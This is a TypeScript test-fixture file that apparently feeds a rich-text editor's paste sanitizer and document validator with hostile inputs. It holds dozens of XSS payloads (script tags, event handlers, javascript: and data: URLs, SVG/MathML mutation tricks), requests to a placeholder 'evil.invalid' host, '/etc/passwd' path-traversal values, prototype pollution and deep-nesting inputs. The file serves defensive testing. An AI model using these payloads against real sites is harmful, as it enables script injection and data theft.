/** What an attacker has somebody paste, and what one sends in a text's stead: each has to end harmless. */

/** Says that a script has run. */
const canary = 'window.canary=1';
/** Where a request would tell that somebody has been here; nobody answers there. */
const elsewhere = 'https://evil.invalid';

const schemes = [
  `javascript:${canary}`,
  `JaVaScRiPt:${canary}`,
  ` javascript:${canary}`,
  `java&#9;script:${canary}`,
  `java&#10;script:${canary}`,
  `&#1;javascript:${canary}`,
  `javascript&colon;${canary}`,
  `data:text/html,<script>${canary}</script>`,
  'vbscript:x',
  'file:///etc/passwd',
  'blob:https://evil.invalid/x',
  '//evil.invalid/',
  '/\\evil.invalid/',
  'https:///evil.invalid',
  'https://own@evil.invalid/',
];

const alone: readonly string[] = [
  `<script>${canary}</script>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<SCRIPT >${canary}</SCRIPT ><p>x</p>`,
  `<svg onload="${canary}"><script>${canary}</script></svg>`,
  `<svg><a xlink:href="javascript:${canary}"><text>x</text></a></svg>`,
  `<svg><animate onbegin="${canary}" attributeName=x></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${canary}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${canary}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${canary}"></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${canary}"></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${canary}>"></noscript>`,
  `<style><!--</style><img src=x onerror="${canary}">--></style>`,
  `<xmp><img title="</xmp><img src=x onerror=${canary}>"></xmp>`,
  `<textarea><img title="</textarea><img src=x onerror=${canary}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${canary}>"></title>`,
  `<template><img src=x onerror="${canary}"></template>`,
  `<template shadowrootmode="open"><script>${canary}</script></template>`,
  `<form id=a><math><mtext></form><form><mglyph><style></math><img src=x onerror="${canary}">`,
  `<img src=x onerror="${canary}">`,
  `<img src="${elsewhere}/pixel.gif" width=1 height=1>`,
  `<img srcset="${elsewhere}/a.png 1x, ${elsewhere}/b.png 2x">`,
  `<picture><source srcset="${elsewhere}/a.avif"><img src="${elsewhere}/a.png"></picture>`,
  `<img src="data:image/svg+xml,<svg onload=${canary}>">`,
  `<input type=image src="${elsewhere}/x.png" onerror="${canary}">`,
  `<video src="${elsewhere}/x.mp4" poster="${elsewhere}/x.png" onerror="${canary}"></video>`,
  `<audio src="${elsewhere}/x.mp3" onerror="${canary}" autoplay></audio>`,
  `<video><source onerror="${canary}"></video>`,
  `<iframe src="${elsewhere}"></iframe>`,
  `<iframe srcdoc="<script>parent.${canary}</script>"></iframe>`,
  `<iframe src="javascript:parent.${canary}"></iframe>`,
  `<object data="${elsewhere}/x.swf"></object>`,
  `<object data="javascript:${canary}"><p>x</p></object>`,
  `<embed src="${elsewhere}/x.swf">`,
  `<link rel=stylesheet href="${elsewhere}/x.css">`,
  `<link rel=prefetch href="${elsewhere}/x">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href="${elsewhere}/"><a href="x">x</a>`,
  `<style>@import url(${elsewhere}/x.css); body{display:none}</style>`,
  `<div style="background:url(${elsewhere}/x.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999">x</div>`,
  `<p style="width:expression(${canary})">x</p>`,
  `<body onload="${canary}"><p>x</p></body>`,
  `<p onclick="${canary}" onmouseover="${canary}" onfocus="${canary}" tabindex=0 autofocus>x</p>`,
  `<details open ontoggle="${canary}">x</details>`,
  `<marquee onstart="${canary}">x</marquee>`,
  `<select autofocus onfocus="${canary}"><option>x</select>`,
  `<input autofocus onfocus="${canary}">`,
  `<button formaction="javascript:${canary}">x</button>`,
  `<form action="javascript:${canary}"><input type=submit value=x></form>`,
  `<form action="${elsewhere}"><input name=password autofocus></form>`,
  `<isindex type=image src=1 onerror="${canary}">`,
  `<applet code="x" codebase="${elsewhere}"></applet>`,
  `<table background="${elsewhere}/x.png"><tr><td background="${elsewhere}/y.png">x</td></tr></table>`,
  `<a href="https://example.org" onclick="${canary}" target=_blank ping="${elsewhere}">x</a>`,
  `<a href="https://example.org" style="position:fixed;inset:0">x</a>`,
  `<div id="root" class="ant-modal" role="alert" contenteditable="false">x</div>`,
  `<p is="x-y" slot="z" part="q" data-x="<script>">x</p>`,
  `<x-evil onconnected="${canary}">x</x-evil>`,
  `<dialog open>x</dialog><p popover id=z>x</p>`,
  `<map name=m><area href="javascript:${canary}" shape=rect></map>`,
  `<frameset onload="${canary}"><frame src="${elsewhere}"></frameset>`,
  `<!--><img src=x onerror="${canary}">-->`,
  `<!--[if gte IE 4]><script>${canary}</script><![endif]-->`,
  `<![CDATA[<script>${canary}</script>]]>`,
  `<?xml-stylesheet href="javascript:${canary}"?><p>x</p>`,
  `<xml><o:p><script>${canary}</script></o:p></xml>`,
  `<v:shape style="behavior:url(#default#VML)" onerror="${canary}"><v:imagedata src="${elsewhere}/x.png"/></v:shape>`,
  `<p>&lt;script&gt;${canary}&lt;/script&gt;</p>`,
  `<p>x\u202Egpj.exe\u2066</p>`,
  `<p>\ufeff<iframe>\u200b</iframe>\u0000</p>`,
  '<table><tr><td colspan=999999 rowspan=999999>x</td></tr></table>',
  '<table><tr><td colspan=-1 rowspan=0>x</td><td colspan=x>y</td></tr></table>',
  `<table><caption><img src=x onerror="${canary}">x</caption><tr><td>x</table>`,
  `<li>x<table><tr><td><li><h1>x</h1></li></td></tr></table></li>`,
  `${'<blockquote>'.repeat(200)}x${'</blockquote>'.repeat(200)}`,
  `${'<ul><li>'.repeat(100)}x`,
  `${'<table><tr><td>'.repeat(40)}x`,
  `${'<b><i><u>'.repeat(300)}x`,
  `<table>${`<tr>${'<td>x'.repeat(40)}`.repeat(2)}</table>`,
  // What gives itself out as copied from an editor.
  `<p data-pm-slice="0 0 []"><img src=x onerror="${canary}">x</p>`,
  `<p data-pm-slice='9999 9999 ["doc",{}]'>x</p>`,
  `<p data-pm-slice='0 0 -99 ["callout",{"tone":"x\\" onload=\\"${canary}"}]'>x</p>`,
  `<p data-pm-slice='0 0 ["callout",{"tone":"x onload=${canary}"}]'>x</p>`,
  `<p data-pm-slice='0 0 ["heading",{"level":"script"}]'>x</p>`,
  `<p data-pm-slice='0 0 ["tableCell",{"colspan":"<script>"},"tableRow",{},"table",{}]'>x</p>`,
  `<p data-pm-slice='1 1 ["script",{},"bulletList",{"__proto__":{"polluted":1}},"listItem",null]'>x</p>`,
  `<p data-pm-slice='0 0 [[[[[{}]]]]]'>x</p>`,
  `<p data-pm-slice='0 0 ${'["blockquote",{},'.repeat(50)}'>x</p>`,
  `<p data-pm-slice='0 0 ["picture",{"number":"${elsewhere}"}]'>x</p>`,
  `<figure data-picture="${elsewhere}/x.png"></figure>`,
  `<figure data-picture="-1" data-caption="x"></figure>`,
  `<figure data-picture="1e99"></figure>`,
  `<figure data-picture="999999" data-caption='"><script>${canary}</script>' onclick="${canary}"></figure>`,
  `<figure data-picture="999999" data-caption="${'x'.repeat(5_000)}"></figure>`,
  `<aside class="callout callout--warning x" onclick="${canary}" style="position:fixed">x</aside>`,
  `<ol start="-99999" type="javascript:${canary}"><li value=7>x</li></ol>`,
  `<h1 onclick="${canary}" class=MsoTitle style="mso-list:l0 level9 lfo1">x</h1>`,
  `<p style="mso-list:l0 level9 lfo1"><span style="mso-list:Ignore"><img src=x onerror="${canary}">1.</span>x</p>`,
  `<p style="mso-list:l0 level1;mso-outline-level:9"><script>${canary}</script>x</p>`,
];

/** Pages for a clipboard. */
export const hostilePastes: readonly string[] = [
  ...alone,
  ...schemes.flatMap((address) => [
    `<p><a href="${address.replaceAll('"', '&quot;')}">x</a></p>`,
    `<table><tr><td><a href="${address.replaceAll('"', '&quot;')}"><b>x</b></a></td></tr></table>`,
  ]),
];

const doc = (...content: unknown[]): string => JSON.stringify({ type: 'doc', content });
const said = (text: unknown, marks?: unknown): unknown => ({
  type: 'paragraph',
  content: [{ type: 'text', text, ...(marks !== undefined && { marks }) }],
});
const own = { type: 'paragraph', content: [{ type: 'text', text: 'x' }] };
const item = { type: 'listItem', content: [own] };
const cell = (more: object): unknown => ({
  type: 'table',
  content: [{ type: 'tableRow', content: [{ type: 'tableCell', content: [own], ...more }] }],
});
const strangers = ['html', 'rawHtml', 'script', 'style', 'iframe', 'image', 'video', 'embed', 'svg', 'codeBlock', 'doc', 'text', 'listItem', 'tableRow', 'tableCell', '__proto__', 'constructor', 'toString']; // oxfmt-ignore
/** Where a parser changes what the same letters mean: between HTML, SVG, MathML, tables, raw text and comments. */
const surroundings: readonly ((html: string) => string)[] = [
  (html) => `<p>before ${html} behind</p>`,
  (html) => `<table><tr><td>${html}</td></tr></table>`,
  (html) => `<table>${html}<tr><td>x</td></tr></table>`,
  (html) => `<svg>${html}</svg>`,
  (html) => `<svg><foreignObject>${html}</foreignObject></svg>`,
  (html) => `<svg><title>${html}</title></svg>`,
  (html) => `<math><mtext>${html}</mtext></math>`,
  (html) => `<math><mi><mglyph>${html}</mglyph></mi></math>`,
  (html) => `<form><math><mtext></form><form>${html}`,
  (html) => `<select><option>${html}</option></select>`,
  (html) => `<template>${html}</template>`,
  (html) => `<noscript>${html}</noscript>`,
  (html) => `<!--><p>${html}-->`,
  (html) => `<ul><li>${html}<ol><li>${html}</ol></ul>`,
  (html) => `<blockquote><h2><a href="https://example.org/">${html}</a></h2></blockquote>`,
];
/** The same attacks in each of them: what the long suite pastes. */
export const surroundedPastes: readonly string[] = surroundings.flatMap((surround) =>
  hostilePastes.map((html) => surround(html)),
);

const handlers = { onclick: canary, style: 'position:fixed', class: 'x', id: 'root', srcdoc: '<script>' };

/** What is sent as a text and is none that may be stored. */
export const hostileTrees: readonly string[] = [
  ...['', ' ', 'null', 'true', '7', '[]', '{}', '"<p>x</p>"', `<script>${canary}</script>`, '{"type":"doc"}', '{"type":"doc","content":"<b>x</b>"}', '{"type":"doc","content":{}}', '{"type":"doc","content":[null]}', '{"type":"doc","content":[[]]}', '{"type":"doc","content":[],"html":"<b>x</b>"}', '{"type":"doc","content":[],"__proto__":{"polluted":true}}', '{"type":"Doc","content":[]}', '{"type":"doc","content":[]', '{"type":"doc","content":[],}'],
  doc('<p>x</p>'),
  ...strangers.map((type) => doc({ type, content: [own] })),
  ...strangers.slice(0, 9).map((type) => doc({ type, attrs: { html: '<b>x</b>', src: `${elsewhere}/x` } })),
  ...Object.entries(handlers).flatMap(([name, value]) => [
    doc({ ...own, attrs: { [name]: value } }),
    doc({ ...own, [name]: value }),
    doc({ type: 'heading', attrs: { level: 2, [name]: value }, content: own.content }),
    doc({ type: 'picture', attrs: { number: 1, [name]: value } }),
    doc({ type: 'file', attrs: { id: '00000000-0000-7000-8000-000000000001', name: 'x', [name]: value } }),
    doc(said('x', [{ type: 'link', attrs: { href: '/', [name]: value } }])),
    doc(cell({ attrs: { colspan: 2, [name]: value } })),
  ]),
  ...[0, 1, 5, '2', 'script', null, [2], { toString: 2 }].map((level) => doc({ type: 'heading', attrs: { level }, content: own.content })),
  ...['', 'x', 7, null, '../../etc/passwd', `${elsewhere}/x.pdf`, `javascript:${canary}`, '00000000-0000-7000-8000-00000000000G'].map((id) => doc({ type: 'file', attrs: { id, name: 'x' } })),
  ...['', 7, null, 'x'.repeat(5_000)].map((name) => doc({ type: 'file', attrs: { id: '00000000-0000-7000-8000-000000000001', name } })),
  ...[0, -1, 1.5, 1e10, '1', `${elsewhere}/x.png`, 'data:image/svg+xml,<svg>', null, [1]].map((number) => doc({ type: 'picture', attrs: { number } })),
  ...[0, -1, 31, 99_999, '2', 1.5, null].map((colspan) => doc(cell({ attrs: { colspan } }))),
  ...['Info', 'danger', `x" onload="${canary}`, null, ['info']].map((tone) => doc({ type: 'callout', attrs: { tone }, content: [own] })),
  ...['', 7, null, ['x'], { toString: 'x' }, '\u0000', '\ud800', 'x'.repeat(20_001)].map((text) => doc(said(text))),
  ...[[], {}, 'bold', [null], ['bold'], [{ type: 'strike' }], [{ type: 'style', attrs: { style: 'x' } }], [{ type: 'bold' }, { type: 'bold' }], [{ type: 'bold', attrs: {} }], [{ type: 'link' }], [{ type: 'link', attrs: {} }]].map((marks) => doc(said('x', marks))),
  doc({ type: 'bulletList', content: [] }), doc({ type: 'bulletList', content: [own] }), doc({ type: 'orderedList', attrs: { start: -1 }, content: [item] }),
  doc({ type: 'blockquote', content: [] }), doc({ type: 'blockquote' }), doc({ type: 'table', content: [] }), doc({ type: 'table', content: [own] }),
  doc({ type: 'paragraph', content: [own] }), doc({ type: 'horizontalRule', content: [own] }), doc({ type: 'hardBreak' }),
  doc(...Array.from({ length: 2_001 }, () => ({ type: 'horizontalRule' }))),
  `{"type":"doc","content":[${'{"type":"blockquote","content":['.repeat(12)}{"type":"paragraph"}${']}'.repeat(13)}`,
  // Deeper than a stack is.
  `{"type":"doc","content":[${'{"type":"blockquote","content":['.repeat(4_000)}{"type":"paragraph"}${']}'.repeat(4_001)}`,
]; // oxfmt-ignore
